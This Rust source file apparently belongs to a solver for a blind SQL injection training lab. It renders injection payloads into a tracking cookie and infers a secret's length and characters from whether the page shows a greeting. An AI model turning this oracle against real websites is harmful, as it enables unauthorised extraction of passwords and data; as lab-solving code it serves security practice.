// src/lab/oracle.rs
use std::sync::atomic::{AtomicUsize, Ordering};

use tracing::trace;

use crate::error::SolverError;
use crate::lab::config::PayloadConfig;
use crate::lab::http_client::LabClient;

/// Boolean oracle over the conditional-responses lab: an injected condition
/// is true exactly when the page greets the tracked user.
#[derive(Debug)]
pub struct BlindOracle {
    client: LabClient,
    payloads: PayloadConfig,
    tracking: String,
    probes: AtomicUsize,
}

impl BlindOracle {
    pub fn new(client: LabClient, payloads: PayloadConfig, tracking: String) -> Self {
        Self {
            client,
            payloads,
            tracking,
            probes: AtomicUsize::new(0),
        }
    }

    /// Probes sent so far
    pub fn probes(&self) -> usize {
        self.probes.load(Ordering::Relaxed)
    }

    pub fn length_payload(&self, length: usize) -> String {
        render_template(
            &self.payloads.length_template,
            &self.tracking,
            &self.payloads.username,
            None,
            &length.to_string(),
        )
    }

    pub fn char_payload(&self, position: usize, candidate: char) -> String {
        render_template(
            &self.payloads.char_template,
            &self.tracking,
            &self.payloads.username,
            Some(position),
            &escape_sql_char(candidate),
        )
    }

    pub fn char_equals_payload(&self, position: usize, candidate: char) -> String {
        render_template(
            &self.payloads.char_equals_template,
            &self.tracking,
            &self.payloads.username,
            Some(position),
            &escape_sql_char(candidate),
        )
    }

    /// Is the secret longer than `length`?
    pub async fn length_greater(&self, length: usize) -> Result<bool, SolverError> {
        self.probe(self.length_payload(length)).await
    }

    /// Is the secret's character at 1-based `position` greater than `candidate`?
    pub async fn char_greater(&self, position: usize, candidate: char) -> Result<bool, SolverError> {
        self.probe(self.char_payload(position, candidate)).await
    }

    /// Is the secret's character at 1-based `position` exactly `candidate`?
    pub async fn char_equals(&self, position: usize, candidate: char) -> Result<bool, SolverError> {
        self.probe(self.char_equals_payload(position, candidate)).await
    }

    async fn probe(&self, payload: String) -> Result<bool, SolverError> {
        self.probes.fetch_add(1, Ordering::Relaxed);
        let response = self
            .client
            .get_with_cookie("./", &self.payloads.tracking_cookie, &payload)
            .await?;

        let status = response.status();
        if !status.is_success() {
            return Err(SolverError::Http(format!(
                "probe answered with status {} (payload: {})",
                status, payload
            )));
        }

        let body = response.text().await?;
        let answer = body.contains(&self.payloads.true_marker);
        trace!(payload = %payload, answer, "probe");
        Ok(answer)
    }
}

fn render_template(
    template: &str,
    tracking: &str,
    username: &str,
    position: Option<usize>,
    value: &str,
) -> String {
    let rendered = template
        .replace("{tracking}", tracking)
        .replace("{username}", username);
    let rendered = match position {
        Some(position) => rendered.replace("{position}", &position.to_string()),
        None => rendered,
    };
    rendered.replace("{value}", value)
}

/// Quote doubling keeps a `'` candidate inside its SQL string literal
fn escape_sql_char(candidate: char) -> String {
    if candidate == '\'' {
        "''".to_string()
    } else {
        candidate.to_string()
    }
}
